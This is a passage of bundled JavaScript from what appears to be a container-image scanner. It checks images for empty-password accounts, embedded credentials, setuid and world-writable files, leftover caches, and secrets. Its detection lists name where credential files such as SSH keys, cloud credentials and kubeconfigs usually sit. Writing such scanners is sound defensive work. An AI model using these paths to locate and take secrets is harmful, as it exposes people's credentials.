import { n as __esmMin } from "../../../rolldown-runtime.js";
import { Ar as init_plain, Hn as init_content, Nr as truncate, Or as byteCount, Vn as hashContent, ai as init_defined, cn as init_files, er as bufferOf, g as init_problem, ii as defined, jr as oneLine, kr as count, p as createFinding, rr as init_text, s as init_rules$1, tr as init_bytes, v as defineRule, y as init_define } from "../../../shared/core.js";
import { m as init_file, p as contentOf, t as init_layers } from "../../../shared/layers/index.js";
import { a as init_file_owners, i as fileOwners, o as isUnchanged, r as compareDigest } from "../../../shared/packages/third-party/third-party.js";
import { g as init_lookup, v as isSystemType } from "../../../shared/ecosystems/index.js";
import { a as rootDirectoryType, i as init_root_directory, t as init_packages } from "../../../shared/packages/index.js";
import { N as mayHoldSecret, a as judgeValue, i as init_value, k as init_names, l as init_search, t as init_secrets, u as maskSecret } from "../../../shared/secrets/index.js";
import { lt as init_history_assignments, t as init_dockerfile, ut as listHistoryAssignments } from "../../../shared/dockerfile/index.js";

// actions/image-scan/image-check.ts
/** Defines a rule about images. Default precision: high. */
function imageRule(text) {
	return defineRule({
		precision: "high",
		...text
	}, kind);
}
/** Creates a problem from a rule. */
function imageProblem(rule, facts) {
	const { subject, about, imageLocations, setBy } = facts;
	return {
		rule,
		finding: createFinding({
			rule,
			...facts
		}, {
			locations: [],
			imageLocations,
			subject,
			about
		}),
		...setBy === void 0 ? {} : { setBy }
	};
}
/** Formats a list of paths: the first ones, and how many more there are. */
function pathList(paths) {
	const omitted = paths.length - maxShownPaths;
	return `${paths.slice(0, maxShownPaths).map((path) => oneLine(path.toWellFormed())).join(", ")}${omitted > 0 ? ` and ${omitted} more` : ""}`;
}
/** Returns the locations of files in their layers. */
function placesOf(files) {
	return files.slice(0, maxKeptPaths).flatMap(({ header, layer }) => layer === void 0 ? [] : [{
		path: header.path,
		diffId: layer.diffId,
		layerIndex: layer.index
	}]);
}
/** Returns the path of the first file of a group for the fingerprint; empty for an empty group. */
function firstPath(group) {
	return group.slice(0, 1).map(({ header }) => header.path.toWellFormed());
}
/** Groups files by the layer that added them, lowest layer first, each group sorted by path. */
function byLayer(files) {
	return [...Map.groupBy(files, ({ layer }) => layer?.index ?? -1)].toSorted(([a], [b]) => a - b).map(([, group]) => group.toSorted((a, b) => a.header.path < b.header.path ? -1 : 1));
}
var kind, maxShownPaths, maxKeptPaths;
function init_image_check() {
	return (init_image_check = __esmMin((() => {
		init_rules$1();
		init_text();
		kind = {
			tags: ["security"],
			language: "dockerfile",
			help: "reason-and-advice"
		};
		maxShownPaths = 10;
		maxKeptPaths = 1e3;
	})))();
}

// actions/image-scan/hygiene/accounts.ts
/** Parses an account file. Skips lines without a name. Pure. */
function accountFacts(path, text) {
	const entries = text.split("\n").flatMap((line) => {
		const [name = "", password = "", number = ""] = line.split(":");
		return name === "" || name.startsWith("#") || !line.includes(":") ? [] : [{
			name,
			password,
			number
		}];
	});
	const open = path === "/etc/group" ? [] : entries.filter(({ password }) => password === "").map(({ name }) => name);
	const shared = [...repeated(entries, ({ name }) => `name ${name}`), ...path === "/etc/shadow" ? [] : repeated(entries, ({ number }) => `number ${number}`)];
	return open.length + shared.length === 0 ? void 0 : {
		open: open.slice(0, maxNames),
		shared: shared.slice(0, maxNames)
	};
}
function repeated(entries, keyOf) {
	return [...Map.groupBy(entries, keyOf)].filter(([, group]) => group.length > 1).map(([what, group]) => ({
		what,
		names: group.slice(0, maxNames).map(({ name }) => name)
	}));
}
/** Checks the visible account files. Pure. */
function accountProblems(files, subject) {
	return files.filter(({ hiddenBy }) => hiddenBy === void 0).flatMap((file) => {
		const { path } = file.header;
		const { open, shared } = file.value;
		const imageLocations = placesOf([file]);
		const problems = shared.map(({ what, names }) => {
			return imageProblem(duplicate, {
				message: `${path === "/etc/group" ? "groups" : "accounts"} ${names.map(oneLine).join(", ")} in ${path} share the ${oneLine(what.replace(/^number/, "id"))}`,
				subject,
				about: [path, what],
				aliases: ["DKL-LI-0002"],
				severity: path === "/etc/passwd" && what === "number 0" ? "high" : duplicate.severity,
				imageLocations
			});
		});
		if (open.length === 0) return problems;
		const message = `${path} contains ${open.length === 1 ? "an account" : "accounts"} without a password: ${open.map(oneLine).join(", ")}`;
		return [imageProblem(emptyPassword, {
			message,
			subject,
			about: [path],
			aliases: ["DKL-LI-0001"],
			imageLocations
		}), ...problems];
	});
}
var emptyPassword, duplicate, accountRules, files, maxBytes$2, maxNames, accounts;
function init_accounts() {
	return (init_accounts = __esmMin((() => {
		init_text();
		init_image_check();
		emptyPassword = imageRule({
			id: "SW-IM-empty-password",
			name: "EmptyPassword",
			severity: "high",
			summary: "Set a password for every account or lock it.",
			why: "Anyone who can run `su` or reach a login prompt in the container can become that user, as in CVE-2019-5021.",
			advice: "Lock the account.",
			before: "RUN adduser -D app && passwd -d app",
			after: "RUN adduser -D app && passwd -l app",
			tags: ["CWE-258"],
			precision: "very-high"
		});
		duplicate = imageRule({
			id: "SW-IM-duplicate-account",
			name: "DuplicateAccount",
			severity: "medium",
			summary: "Give every account and group its own name and id.",
			why: "The kernel cannot tell them apart: each one owns the other's files and has its permissions.",
			advice: "Assign each account and group a unique name and id.",
			before: "RUN useradd --non-unique --uid 0 app",
			after: "RUN useradd --uid 10001 app",
			tags: ["CWE-286"],
			precision: "very-high"
		});
		accountRules = [emptyPassword, duplicate];
		files = /* @__PURE__ */ new Set([
			"/etc/passwd",
			"/etc/shadow",
			"/etc/group"
		]);
		maxBytes$2 = 4 * 2 ** 20;
		maxNames = 20;
		accounts = {
			name: "hygiene/accounts",
			version: 1,
			wants: ({ path, type }) => (type === "file" || type === "hardlink") && files.has(path),
			maxBytes: maxBytes$2,
			collect: ({ header, body }) => accountFacts(header.path, Buffer.from(body).toString("utf8"))
		};
	})))();
}

// actions/image-scan/hygiene/credentials.ts
/** Reports variables and labels that have the name of a credential and a value. Never shows the value. Pure. */
function credentialSettings({ env, labels }, subject) {
	const variables = env.map((entry) => {
		const equals = entry.indexOf("=");
		return {
			kind: "variable",
			name: entry.slice(0, equals),
			value: entry.slice(equals + 1),
			setBy: ["ENV"]
		};
	});
	const named = Object.entries(labels).map(([name, value]) => ({
		kind: "label",
		name,
		value,
		setBy: ["LABEL"]
	}));
	return [...variables, ...named].filter(({ name, value }) => secretName.test(name) && !publicName.test(name) && !placeholderValue.test(value)).map(({ kind, name, setBy }) => imageProblem(credentialSetting, {
		message: `the ${kind} ${oneLine(name)} has the name of a credential and a value`,
		subject,
		about: [kind, name],
		aliases: kind === "variable" ? ["CIS-DI-0010"] : [],
		setBy
	}));
}
function isCredentialFile(path) {
	return (credentialFileNames.has(basename$1(path)) || credentialPathEndings.some((ending) => path.endsWith(ending))) && !packageDirectory.test(path);
}
/**
* Reports one finding per layer. Files that a later layer removes count, because the image still ships them; files that
* a package installed do not. Pure.
*/
function credentialFileProblems(files, subject, owners) {
	const own = files.filter((file) => {
		const isGuessed = file.hiddenBy !== void 0 || !owners.hasSystemLists;
		return owners.of(file) === void 0 && !(isGuessed && systemDirectory.test(file.header.path));
	});
	return byLayer(own).map((group) => {
		const paths = group.map(({ header, hiddenBy }) => hiddenBy === void 0 ? header.path : `${header.path} (removed in layer ${hiddenBy.index}, but still shipped)`);
		return imageProblem(credentialFile, {
			message: `the image contains credential files: ${pathList(paths)}`,
			subject,
			about: firstPath(group),
			aliases: ["CIS-DI-0010"],
			imageLocations: placesOf(group)
		});
	});
}
var basename$1, credentialSetting, credentialFile, credentialRules, secretName, publicName, placeholderValue, credentialFileNames, credentialPathEndings, packageDirectory, systemDirectory, credentialFiles;
function init_credentials() {
	return (init_credentials = __esmMin((() => {
		init_text();
		init_image_check();
		({basename: basename$1} = process.getBuiltinModule("node:path/posix"));
		credentialSetting = imageRule({
			id: "SW-IM-credential-setting",
			name: "CredentialSetting",
			severity: "medium",
			summary: "Keep credentials out of variables and labels.",
			why: "Anyone who can pull the image can read it, and so can every process in the container.",
			advice: "Pass the value when the container starts, or mount it as a secret. Then rotate it, because the published image still contains it.",
			before: "ENV DB_PASSWORD=…",
			after: "# docker run --env DB_PASSWORD …",
			tags: [
				"CIS-Docker-4.10",
				"CWE-526",
				"CWE-798"
			],
			precision: "medium"
		});
		credentialFile = imageRule({
			id: "SW-IM-credential-file",
			name: "CredentialFile",
			severity: "high",
			summary: "Keep credential files out of the image.",
			why: "Anyone who can pull the image can read every file in every layer, even files that a later layer removes.",
			advice: "Mount the file as a build secret, exclude it in .dockerignore, and revoke the credentials in it.",
			before: "COPY .aws /root/.aws\nRUN ./deploy && rm -r /root/.aws",
			after: "RUN --mount=type=secret,id=aws,target=/root/.aws/credentials ./deploy",
			tags: [
				"CIS-Docker-4.10",
				"CWE-538",
				"CWE-522"
			],
			precision: "medium"
		});
		credentialRules = [credentialSetting, credentialFile];
		secretName = /(?:^|_|-|\.)(?:pass(?:wd|word|phrase)?|secrets?|api_?keys?|access_?keys?|private_?keys?|tokens?|credentials?|auth)$/i;
		publicName = /(?:^|_)(?:gpg|pgp|public|pub|path|file|dir|url|uri|host|user|name|id|type|version)(?:_|$)/i;
		placeholderValue = /^(?:|true|false|yes|no|none|null|nil|undefined|change_?me.*|example.*|dummy|<.*>|\*+|x+|\d{1,5}|\$.*|\/.*|file:.*)$/i;
		credentialFileNames = /* @__PURE__ */ new Set([
			...[
				"id_rsa",
				"id_dsa",
				"id_ecdsa",
				"id_ed25519",
				"id_ecdsa_sk",
				"id_ed25519_sk",
				"identity",
				"ssh_host_rsa_key"
			],
			...[
				"ssh_host_ecdsa_key",
				"ssh_host_ed25519_key",
				".netrc",
				"_netrc",
				".git-credentials",
				".pypirc",
				".pgpass"
			],
			...[
				".my.cnf",
				".dockercfg",
				".vault-token",
				".s3cfg",
				".boto",
				"kubeconfig",
				"terraform.tfstate",
				".htpasswd"
			]
		]);
		credentialPathEndings = [...[
			"/.aws/credentials",
			"/.docker/config.json",
			"/.kube/config",
			"/.config/gcloud/credentials.db"
		], ...[
			"/.config/gcloud/application_default_credentials.json",
			"/.azure/accessTokens.json",
			".kdbx",
			".keytab"
		]];
		packageDirectory = /^\/(?:proc|sys)\/|\/(?:node_modules|site-packages|dist-packages|tests?|testdata|examples?|fixtures)\//;
		systemDirectory = /^\/(?:usr\/(?:share|lib|lib64|include)|lib)\//;
		credentialFiles = {
			name: "hygiene/credential-files",
			version: 2,
			headersOnly: true,
			wants: ({ path, type, size }) => (type === "hardlink" || type === "file" && size > 0) && isCredentialFile(path),
			collect: () => true
		};
	})))();
}

// actions/image-scan/hygiene/leftovers.ts
function kindOf(path) {
	if (path.endsWith("/.git/config")) return gitDirectory;
	if (!path.includes("/cache/") && !path.includes("/lists/") && !path.includes("/.") && !path.startsWith("/etc/apk/")) return;
	return kinds.find((kind) => kind.path.test(path))?.name;
}
/**
* Reports one finding per kind and layer. Files that a later layer removes count, because the image still ships them.
* Files that a package installed are no leftovers. Pure.
*/
function leftoverProblems(files, subject, owners) {
	const left = files.filter((file) => owners.of(file) === void 0);
	return [...Map.groupBy(left, ({ value }) => value)].flatMap(([name, leftoverFiles]) => byLayer(leftoverFiles).map((group) => {
		const facts = {
			subject,
			about: [name],
			imageLocations: placesOf(group)
		};
		if (name === gitDirectory) {
			const directories = group.map(({ header }) => header.path.slice(0, -7));
			return imageProblem(repositoryRule, {
				...facts,
				message: `the image contains ${directories.length === 1 ? "a Git repository" : "Git repositories"}: ${directories.join(", ")}`
			});
		}
		const bytes = group.reduce((sum, { header }) => sum + header.size, 0);
		const removed = group.every(({ hiddenBy }) => hiddenBy !== void 0) ? ", removed later but still shipped" : "";
		return imageProblem(packageCacheRule, {
			...facts,
			message: `${name}: ${count(group.length, "file")}, ${byteCount(bytes)}${removed}`,
			aliases: kinds.find((kind) => kind.name === name)?.aliases ?? []
		});
	}));
}
var packageCacheRule, repositoryRule, leftoverRules, kinds, gitDirectory, leftovers;
function init_leftovers() {
	return (init_leftovers = __esmMin((() => {
		init_text();
		init_image_check();
		packageCacheRule = imageRule({
			id: "SW-IM-package-cache",
			name: "PackageCache",
			severity: "low",
			summary: "Remove package manager caches in the layer that creates them.",
			why: "Caches make every pull larger, and stale package lists make later builds install old versions.",
			advice: "Clean up in the same RUN instruction or use a cache mount. A later RUN cannot shrink an earlier layer.",
			before: "RUN apt-get update && apt-get install -y curl",
			after: "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
			tags: ["CWE-459"],
			precision: "high"
		});
		repositoryRule = imageRule({
			id: "SW-IM-repository-directory",
			name: "RepositoryDirectory",
			severity: "medium",
			summary: "Keep Git repositories out of the image.",
			why: "A repository ships its whole history: removed files, authors, and often credentials in its configuration.",
			advice: "Add .git to .dockerignore, or copy only the files that the image needs.",
			before: "COPY . /app",
			after: "# .dockerignore: .git\nCOPY . /app",
			tags: ["CWE-527", "CWE-538"],
			precision: "high"
		});
		leftoverRules = [packageCacheRule, repositoryRule];
		kinds = [
			{
				name: "apt lists",
				path: /^\/var\/lib\/apt\/lists\/[^/]+_/,
				aliases: ["DKL-DI-0005"]
			},
			{
				name: "apt archives",
				path: /^\/var\/cache\/apt\/.*\.(?:deb|bin)$/,
				aliases: []
			},
			{
				name: "apk cache",
				path: /^\/(?:var\/cache|etc)\/apk\/(?:cache\/)?[^/]+\.(?:apk|tar\.gz)$/,
				aliases: ["DKL-DI-0004"]
			},
			{
				name: "yum or dnf cache",
				path: /^\/var\/cache\/(?:yum|dnf|libdnf5|zypp)\/.+\.(?:rpm|xml|gz|zst|solv\w*|sqlite)$/,
				aliases: []
			},
			{
				name: "pip cache",
				path: /\/\.cache\/pip\/.+/,
				aliases: []
			},
			{
				name: "npm cache",
				path: /\/\.npm\/_cacache\/.+/,
				aliases: []
			},
			{
				name: "yarn or pnpm cache",
				path: /\/\.cache\/(?:yarn|pnpm)\/.+/,
				aliases: []
			},
			{
				name: "Go build cache",
				path: /\/\.cache\/go-build\/.+/,
				aliases: []
			},
			{
				name: "Composer cache",
				path: /\/\.(?:cache\/)?composer\/(?:cache\/)?files\/.+/,
				aliases: []
			}
		];
		gitDirectory = "Git repository";
		leftovers = {
			name: "hygiene/leftovers",
			version: 1,
			headersOnly: true,
			wants: ({ path, type, size }) => type === "file" && size > 0 && kindOf(path) !== void 0,
			collect: ({ header }) => kindOf(header.path)
		};
	})))();
}

// actions/image-scan/hygiene/modes.ts
/** Reports one finding per rule and layer for files that are visible in a container. Pure. */
function modeProblems(files, subject, owners) {
	const visible = files.filter(({ hiddenBy }) => hiddenBy === void 0);
	const privileged = visible.filter(({ header }) => (header.mode & setIdBits$1) !== 0);
	const open = visible.filter(({ header }) => (header.mode & othersWrite) !== 0 && !temporaryPath.test(header.path));
	return [...byLayer(privileged).map((group) => {
		const unusual = group.filter((file) => !isOfDistribution(file, owners));
		const programs = unusual.length === 0 ? "setuid or setgid programs of the distribution" : "setuid or setgid programs";
		return imageProblem(setId, {
			message: `${programs}: ${pathList((unusual.length === 0 ? group : unusual).map((file) => pathWithOwner(file, owners)))}`,
			subject,
			about: firstPath(group),
			aliases: ["CIS-DI-0008"],
			severity: unusual.length === 0 ? "info" : setId.severity,
			imageLocations: placesOf(group)
		});
	}), ...byLayer(open).map((group) => imageProblem(worldWritable, {
		message: `everyone can write to ${pathList(group.map(pathOf))}`,
		subject,
		about: firstPath(group),
		severity: group.some(({ header }) => isSensitive(header.path, header.mode)) ? worldWritable.severity : "low",
		imageLocations: placesOf(group)
	}))];
}
/** Returns whether others run or read the file: programs, libraries and settings. */
function isSensitive(path, mode) {
	return (mode & 73) !== 0 || /^\/(?:etc|bin|sbin|lib|lib64|usr|opt|root)\/|\.(?:so|js|py|rb|jar|sh)$/.test(path);
}
/** Returns whether a distribution ships the program with these bits: by its name, and its owner where that is known. */
function isOfDistribution(file, owners) {
	if (!distributionPrograms.has(basename(file.header.path))) return false;
	return !owners.hasSystemLists || owners.of(file)?.isSystem === true;
}
/** Returns the path with the package of a program that distributions do not usually ship so. */
function pathWithOwner(file, owners) {
	const owner = distributionPrograms.has(basename(file.header.path)) ? void 0 : owners.of(file)?.package;
	return owner === void 0 ? pathOf(file) : `${pathOf(file)} (package ${owner.name})`;
}
function pathOf({ header }) {
	return header.path;
}
var basename, setId, worldWritable, modeRules, distributionPrograms, temporaryPath, setIdBits$1, othersWrite, riskyModes;
function init_modes() {
	return (init_modes = __esmMin((() => {
		init_image_check();
		({basename} = process.getBuiltinModule("node:path/posix"));
		setId = imageRule({
			id: "SW-IM-setuid",
			name: "SetuidFiles",
			severity: "low",
			summary: "Remove the setuid and setgid bits from programs that do not need them.",
			why: "A flaw in a setuid program gives its caller the permissions of the file's owner, usually root.",
			advice: "Remove the bits where nothing needs them, and run the container with `no-new-privileges`.",
			before: "RUN apt-get install -y passwd",
			after: "RUN apt-get install -y passwd && find / -xdev -perm /6000 -type f -exec chmod a-s {} +",
			tags: ["CIS-Docker-4.8", "CWE-250"],
			precision: "very-high"
		});
		worldWritable = imageRule({
			id: "SW-IM-world-writable",
			name: "WorldWritableFiles",
			severity: "medium",
			summary: "Do not make files writable for everyone.",
			why: "Any process in the container, however limited, can change what other users run or read.",
			advice: "Change the owner of the files to the user that needs them instead of opening them to everyone.",
			before: "RUN npm ci && chmod -R 777 /app",
			after: "RUN npm ci && chown -R 10001 /app",
			tags: ["CWE-732"],
			precision: "very-high"
		});
		modeRules = [setId, worldWritable];
		distributionPrograms = /* @__PURE__ */ new Set([
			...[
				"chage",
				"chfn",
				"chsh",
				"expiry",
				"gpasswd",
				"mount",
				"newgrp",
				"passwd",
				"su",
				"umount",
				"unix_chkpwd",
				"ping"
			],
			...[
				"ping6",
				"sudo",
				"wall",
				"write",
				"pam_timestamp_check",
				"ssh-keysign",
				"ssh-agent",
				"crontab",
				"pkexec"
			],
			...[
				"dbus-daemon-launch-helper",
				"fusermount",
				"fusermount3",
				"newuidmap",
				"newgidmap",
				"userhelper",
				"utempter"
			],
			...[
				"bbsuid",
				"polkit-agent-helper-1",
				"chkpwd",
				"grub2-set-bootflag",
				"at",
				"locate",
				"plocate",
				"sudoedit"
			]
		]);
		temporaryPath = /^\/(?:tmp|var\/tmp|dev|proc|sys|run|var\/run|var\/lock)\//;
		setIdBits$1 = 3072;
		othersWrite = 2;
		riskyModes = {
			name: "hygiene/modes",
			version: 1,
			headersOnly: true,
			wants: ({ type, mode, path }) => (type === "file" || type === "hardlink") && ((mode & setIdBits$1) !== 0 || (mode & othersWrite) !== 0 && !temporaryPath.test(path)),
			collect: () => true
		};
	})))();
}

// actions/image-scan/hygiene/owners.ts
/** Returns the other name of a hard link, which a tar states relative to the root. */
function linkedPath({ type, linkTarget }) {
	return type === "hardlink" ? [`/${linkTarget.replace(/^\.?\/+/, "")}`] : [];
}
var HygieneOwners;
function init_owners() {
	return (init_owners = __esmMin((() => {
		init_packages();
		HygieneOwners = class {
			#owners;
			/** Whether the system's package database lists files, so that a file without an owner has none. */
			hasSystemLists;
			constructor(files, { packages, owned }) {
				const all = [...packages, ...owned];
				const paths = files.flatMap(({ header }) => [header.path, ...linkedPath(header)]);
				this.#owners = fileOwners(paths, all);
				this.hasSystemLists = all.some(({ type, files: listed = [] }) => isSystemType(type) && listed.length > 0);
			}
			/** Returns the owner of a file, or of the file that it is a hard link to. */
			of({ header }) {
				const [linked] = linkedPath(header);
				return this.#owners.get(header.path) ?? (linked === void 0 ? void 0 : this.#owners.get(linked));
			}
		};
	})))();
}

// actions/image-scan/hygiene/settings.ts
/** Checks user, health check, tag and age of an image. `now` decides the age. Pure. */
function settingProblems({ config, tags }, subject, now) {
	const problems = [];
	const [name = ""] = config.user.split(":");
	if (/^(?:root|0*)$/.test(name)) {
		const userSetting = config.user === "" ? "sets no USER and runs as root" : `runs as ${oneLine(config.user)}`;
		problems.push(imageProblem(rootUser, {
			message: `the image ${userSetting}`,
			subject,
			about: [],
			aliases: ["CIS-DI-0001"],
			setBy: ["USER"]
		}));
	}
	const check = config.healthcheck?.test ?? [];
	if (check.length === 0 || check[0] === "NONE") problems.push(imageProblem(noHealthcheck, {
		message: "the image has no HEALTHCHECK",
		subject,
		about: [],
		aliases: ["CIS-DI-0006"],
		setBy: [
			"HEALTHCHECK",
			"CMD",
			"ENTRYPOINT"
		]
	}));
	const latest = tags.find((tag) => tag === "latest" || tag.endsWith(":latest"));
	if (latest !== void 0) problems.push(imageProblem(latestTag, {
		message: `the image is tagged ${oneLine(latest)}`,
		subject,
		about: [],
		aliases: ["DKL-DI-0006"],
		setBy: []
	}));
	const created = Date.parse(config.created ?? "");
	const age = Math.floor((now.getTime() - created) / day);
	if (created >= earliestBuild && age > maxAgeDays) {
		const date = new Date(created).toISOString().slice(0, 10);
		problems.push(imageProblem(oldImage, {
			message: `the image was built on ${date}, ${count(age, "day")} ago`,
			subject,
			about: [],
			setBy: []
		}));
	}
	return problems;
}
var rootUser, noHealthcheck, latestTag, oldImage, settingRules, maxAgeDays, day, earliestBuild;
function init_settings() {
	return (init_settings = __esmMin((() => {
		init_text();
		init_image_check();
		rootUser = imageRule({
			id: "SW-IM-root-user",
			name: "RootUser",
			severity: "medium",
			summary: "Run the image as a non-root user.",
			why: "A root process that escapes its container is root on the host, unless user namespaces are enabled.",
			advice: "Create a user with a fixed id and switch to it with USER after the last step that needs root.",
			before: "CMD [\"node\", \"app.js\"]",
			after: "USER 10001:10001\nCMD [\"node\", \"app.js\"]",
			tags: ["CIS-Docker-4.1", "CWE-250"],
			precision: "very-high"
		});
		noHealthcheck = imageRule({
			id: "SW-IM-no-healthcheck",
			name: "NoHealthcheck",
			severity: "info",
			summary: "Define a health check.",
			why: "Without a health check, Docker and Compose cannot tell a hung service from a working one. Kubernetes ignores HEALTHCHECK and uses probes.",
			advice: "Add a HEALTHCHECK instruction, unless the image runs only in Kubernetes.",
			before: "CMD [\"node\", \"app.js\"]",
			after: "HEALTHCHECK CMD [\"/app/healthy\"]\nCMD [\"node\", \"app.js\"]",
			tags: ["CIS-Docker-4.6"],
			precision: "very-high"
		});
		latestTag = imageRule({
			id: "SW-IM-latest-tag",
			name: "LatestTag",
			severity: "low",
			summary: "Tag the image with a version instead of `latest`.",
			why: "The tag moves: the image that runs may not be the image that was checked, and there is no earlier tag to roll back to.",
			advice: "Tag the image with its version or commit, and deploy it by digest.",
			before: "# docker build -t shop:latest .",
			after: "# docker build -t shop:1.4.2 .",
			tags: ["CWE-1357"],
			precision: "very-high"
		});
		oldImage = imageRule({
			id: "SW-IM-old-image",
			name: "OldImage",
			severity: "low",
			summary: "Rebuild the image regularly.",
			why: "An old image lacks every fix that its base image and packages have received since the build.",
			advice: "Rebuild the image at least once a month, on a schedule.",
			before: "FROM debian:bookworm-20240110-slim",
			after: "FROM debian:bookworm-20261110-slim",
			tags: ["CIS-Docker-4.4", "CWE-1104"]
		});
		settingRules = [
			rootUser,
			noHealthcheck,
			latestTag,
			oldImage
		];
		maxAgeDays = 180;
		day = 864e5;
		earliestBuild = Date.parse("2013-03-20");
	})))();
}

// actions/image-scan/hygiene/index.ts
/**
* Runs the hygiene checks that judge an image itself (CIS Docker Benchmark, section 4; dockle). Skips checks of
* settings for an unpacked root file system.
* @param walk a walk with `hygieneCollectors`.
*/
function hygieneProblems({ image, walk, catalog }, subject, now) {
	const modes = walk.found(riskyModes);
	const named = walk.found(credentialFiles);
	const left = walk.found(leftovers);
	const owners = new HygieneOwners([
		...modes,
		...named,
		...left
	], catalog);
	return [
		...image.mediaType === "application/vnd.seaworthy.root.v1" ? [] : settingProblems(image, subject, now),
		...credentialSettings(image.config, subject),
		...credentialFileProblems(named, subject, owners),
		...accountProblems(walk.found(accounts), subject),
		...modeProblems(modes, subject, owners),
		...leftoverProblems(left, subject, owners)
	];
}
var hygieneRules, hygieneCollectors;
function init_hygiene() {
	return (init_hygiene = __esmMin((() => {
		init_packages();
		init_accounts();
		init_credentials();
		init_leftovers();
		init_modes();
		init_owners();
		init_settings();
		hygieneRules = [
			...settingRules,
			...credentialRules,
			...accountRules,
			...modeRules,
			...leftoverRules
		];
		hygieneCollectors = [
			riskyModes,
			credentialFiles,
			leftovers,
			accounts
		];
	})))();
}

// actions/image-scan/secrets/keys.ts
/** Tells whether a key is in a file that is named as a dummy. */
function isNamedAsDummy(path, { rule }) {
	return keyRules.has(rule) && dummyName.test(path.split("/").slice(-2).join("/"));
}
var dummyName, keyRules;
function init_keys() {
	return (init_keys = __esmMin((() => {
		dummyName = /(?:^|[/_.-])(?:dummy|fake|mock)(?:[/_.-]|key|cert|$)/i;
		keyRules = /* @__PURE__ */ new Set([
			"private-key",
			"putty-key",
			"java-keystore",
			"pkcs12"
		]);
	})))();
}

// actions/image-scan/secrets/settings.ts
/**
* Searches ENV, LABEL, commands and history for secrets. The history includes ARG and every RUN. Values under a name
* are judged as in a Dockerfile, and everything else is searched as text. Pure.
*/
function settingHits(config, search) {
	const seen = /* @__PURE__ */ new Set();
	return [
		...named(config),
		...commands(config),
		...history(config)
	].flatMap(({ assignments, text, ...place }) => {
		return [...assignments.flatMap((assignment) => judge(assignment, search)), ...search.search(Buffer.from(text), true).hits].flatMap(({ rule, masked }) => {
			const key = `${rule}\0${masked}\0${masked === "…" ? place.where : ""}`;
			if (seen.has(key)) return [];
			seen.add(key);
			return [{
				rule,
				masked,
				...place
			}];
		});
	});
}
/**
* Searches the assignment with all rules, including the user's. Then searches a value that is a document, and judges the
* value under its name.
*/
function judge({ name, value }, search) {
	const hitsIn = (text) => search.search(Buffer.from(text), true).hits;
	const assigned = hitsIn(`${name}=${value}`).filter(({ rule }) => rule !== "assigned-value" || mayHoldSecret(name));
	if (assigned.length > 0) return assigned;
	const inside = hitsIn(value);
	if (inside.length > 0) return inside;
	const judged = judgeValue(value, name);
	return judged === void 0 ? [] : [{
		rule: judged.rule.id,
		masked: maskSecret(judged.rule, judged.secret)
	}];
}
function named({ env, labels }) {
	const variables = env.map((entry) => {
		const [name = ""] = entry.split("=", 1);
		return {
			name,
			value: entry.slice(name.length + 1),
			where: `the variable ${name}`,
			setBy: ["ENV"]
		};
	});
	const labeled = Object.entries(labels).map(([name, value]) => ({
		name,
		value,
		where: `the label ${name}`,
		setBy: ["LABEL"]
	}));
	return [...variables, ...labeled].map(({ name, value, ...place }) => ({
		...place,
		assignments: [{
			name,
			value
		}],
		text: ""
	}));
}
function commands({ cmd, entrypoint, healthcheck }) {
	return [
		["CMD", cmd],
		["ENTRYPOINT", entrypoint],
		["HEALTHCHECK", healthcheck?.test ?? []]
	].map(([keyword, words]) => ({
		where: keyword,
		setBy: [keyword],
		assignments: [],
		text: words.join(" ")
	}));
}
function history(config) {
	let layer = -1;
	return config.history.map(({ createdBy = "", emptyLayer }) => {
		if (!emptyLayer) layer += 1;
		const { keyword, assignments, text } = listHistoryAssignments(createdBy);
		return {
			where: `the history (${keyword})`,
			setBy: [keyword],
			assignments,
			text,
			...emptyLayer ? {} : { layer }
		};
	});
}
function init_settings$1() {
	return (init_settings$1 = __esmMin((() => {
		init_dockerfile();
		init_secrets();
		init_search();
	})))();
}

// actions/image-scan/secrets/problems.ts
/** Converts the secrets in an image's files and configuration to problems. Never contains the secrets. Pure. */
function secretProblems(files, config, subject, { rules, search, text }) {
	const ruleDefinitions = new Map(rules.map((rule) => [rule.id, rule]));
	const ruleById = new Map(rules.map((rule) => [rule.id, {
		title: rule.title,
		rule: ruleOf(rule)
	}]));
	const inFiles = files.flatMap((file) => {
		const { path } = file.header;
		const { inner } = file.value;
		const place = inner === void 0 ? path : `${path}!/${inner}`;
		const shownPath = oneLine(place.toWellFormed());
		const removed = file.hiddenBy === void 0 ? "" : `; layer ${file.hiddenBy.index} removes or replaces the file, but the image still ships it`;
		const { hits, omitted } = capped(text.count(file, ruleDefinitions).filter((hit) => !isNamedAsDummy(place, hit)), ruleDefinitions);
		return hits.flatMap((hit, index) => {
			const { rule: id, line } = hit;
			const about = ruleById.get(id);
			if (about === void 0) return [];
			const ordinal = hits.slice(0, index).filter((other) => other.rule === id).length;
			const others = omitted.after === hit ? `; ${count(omitted.count, "more value")} of this kind in the file` : "";
			const { layer } = file;
			return [imageProblem(about.rule, {
				message: `${shownPath}:${line} contains ${describe(hit, about.title)}${removed}${others}`,
				subject,
				...severityOf(hit),
				about: [
					layer?.diffId ?? "",
					place.toWellFormed(),
					String(ordinal)
				],
				...layer === void 0 ? {} : { imageLocations: [{
					path,
					diffId: layer.diffId,
					layerIndex: layer.index,
					...inner === void 0 ? { region: { startLine: line } } : {}
				}] }
			})];
		});
	});
	const inSettings = settingHits(config, search).flatMap(({ rule: id, masked, where, setBy, layer }) => {
		const about = ruleById.get(id);
		if (about === void 0) return [];
		const facts = {
			message: `${oneLine(where)} of the image contains ${about.title} (${masked})`,
			subject,
			about: ["config", where],
			aliases: ["CIS-DI-0010"]
		};
		const problem = imageProblem(about.rule, {
			...facts,
			setBy
		});
		return [layer === void 0 ? problem : {
			...problem,
			layer
		}];
	});
	return [...inFiles, ...inSettings];
}
/** Keeps the first values of a file whose rule knows neither issuer nor place. */
function capped(hits, rules) {
	const generic = hits.filter(({ rule, severity, title }) => {
		const known = rules.get(rule);
		return known?.generic === true && title === void 0 && (severity ?? known.severity) === "medium";
	});
	const omitted = new Set(generic.slice(maxGeneric));
	const after = omitted.size === 0 ? void 0 : generic[2];
	return {
		hits: hits.filter((hit) => !omitted.has(hit)),
		omitted: {
			count: omitted.size,
			...defined({ after })
		}
	};
}
function describe({ title, masked, published }, ruleTitle) {
	if (published === void 0) return `${title ?? ruleTitle} (${masked})`;
	return `${title ?? ruleTitle} that everybody has: it is published with ${published}`;
}
function severityOf({ severity, published }) {
	return published === void 0 ? defined({ severity }) : { severity: "info" };
}
/** Returns the rule that reports secrets of a kind. */
function ruleOf({ id, title, severity }) {
